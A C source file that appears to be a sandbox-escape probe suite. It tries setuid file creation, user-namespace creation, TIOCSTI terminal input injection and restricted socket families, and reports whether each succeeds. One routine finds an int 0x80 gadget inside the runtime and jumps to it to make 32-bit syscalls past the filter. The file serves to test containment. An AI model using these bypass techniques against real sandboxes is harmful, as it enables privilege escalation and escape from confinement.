/* SPDX-License-Identifier: MIT */
/*
 * kernel.c - ask the kernel, past the runtime, for what the runtime never asks.
 *
 *   kernel (in /tmp, which the container may write)
 */
#include "attack.h"

#include <linux/perf_event.h>
#include <linux/sched.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#define SETUID 04755

/* Make a call of a 32-bit program by the runtime's own instruction. */
static long past32(long nr, long a, long b, long c)
{
	static const unsigned char int80_pop_pop_ret[] = {0xcd, 0x80, 0x5d, 0x5b, 0xc3};
	const unsigned char *gate = RUNTIME;
	long ret = nr;

	while (memcmp(gate, int80_pop_pop_ret, sizeof(int80_pop_pop_ret)) != 0)
		gate++;
	__asm__ volatile("sub $128, %%rsp\n\t" /* the red zone */
			 "push %%rbx\n\t"
			 "push %%rbp\n\t"
			 "lea 1f(%%rip), %%r8\n\t"
			 "push %%r8\n\t"
			 "push %%rbx\n\t"
			 "push %%rbp\n\t"
			 "mov %[a], %%ebx\n\t"
			 "jmp *%[gate]\n"
			 "1:\n\t"
			 "pop %%rbp\n\t"
			 "pop %%rbx\n\t"
			 "add $128, %%rsp"
			 : "+a"(ret)
			 : [gate] "D"(gate), [a] "S"((int)a), "c"(b), "d"(c)
			 : "r8", "r9", "r10", "r11", "memory", "cc");
	return (int)ret;
}

static void set_id_bits(void)
{
	int fd = (int)MUST(open("/tmp/program", O_RDWR | O_CREAT, 0755));
	int dir = (int)MUST(open("/tmp", O_RDONLY | O_DIRECTORY)); /* now it is the upper's */
	char name[64];

	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	attempt("fchmod 04755", PAST(SYS_fchmod, fd, SETUID));
	attempt("fchmod 02755", PAST(SYS_fchmod, fd, 02755));
	attempt("chmod 04755", PAST(SYS_chmod, name, SETUID));
	attempt("fchmodat 04755", PAST(SYS_fchmodat, AT_FDCWD, name, SETUID));
	attempt("mknodat 04755", PAST(SYS_mknodat, dir, "node", S_IFREG | SETUID, 0));
	attempt("openat 04755", PAST(SYS_openat, dir, "file", O_CREAT | O_WRONLY, SETUID));
	attempt("fchmod 04755 as a 32-bit program", past32(94, fd, SETUID, 0));
}

static void namespaces(void)
{
	long pid = PAST(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0)
		_exit(0);
	attempt("clone a user namespace", pid);
	fflush(stdout);
	pid = MUST(fork());
	if (pid == 0) {
		attempt("unshare a user namespace", PAST(SYS_unshare, CLONE_NEWUSER));
		_exit(0);
	}
	wait_for((pid_t)pid);
	pid = MUST(fork());
	if (pid == 0) {
		attempt("unshare a user namespace as a 32-bit program",
			past32(310, CLONE_NEWUSER, 0, 0));
		_exit(0);
	}
	wait_for((pid_t)pid);
}

/* The terminal is this process's own; the user's would be the same. */
static void terminal(void)
{
	char name[64];
	int master = (int)MUST(posix_openpt(O_RDWR | O_NOCTTY));
	pid_t pid;

	MUST(unlockpt(master));
	MUST(ptsname_r(master, name, sizeof(name)) ? -1 : 0);
	pid = (pid_t)MUST(fork());
	if (pid == 0) {
		int slave;

		MUST(setsid());
		slave = (int)MUST(open(name, O_RDWR));
		attempt("put input into a terminal", PAST(SYS_ioctl, slave, TIOCSTI, "x"));
		attempt("put input into a terminal, not past the runtime",
			ioctl(slave, TIOCSTI, "x") == 0 ? 0 : -errno);
		_exit(0);
	}
	wait_for(pid);
}

static void families(void)
{
	struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(attr)};

	attr.exclude_kernel = 1;
	attempt("a socket of the hypervisor", PAST(SYS_socket, AF_VSOCK, SOCK_STREAM, 0));
	attempt("a socket of the kernel's ciphers", PAST(SYS_socket, AF_ALG, SOCK_SEQPACKET, 0));
	attempt("count events", PAST(SYS_perf_event_open, &attr, 0, -1, -1, 0));
	attempt("compare processes", PAST(SYS_kcmp, getpid(), getpid(), 0, 0, 0));
	attempt("move pages", PAST(SYS_migrate_pages, 0, 0, 0, 0));
}

int main(void)
{
	set_id_bits();
	namespaces();
	terminal();
	families();
	return 0;
}
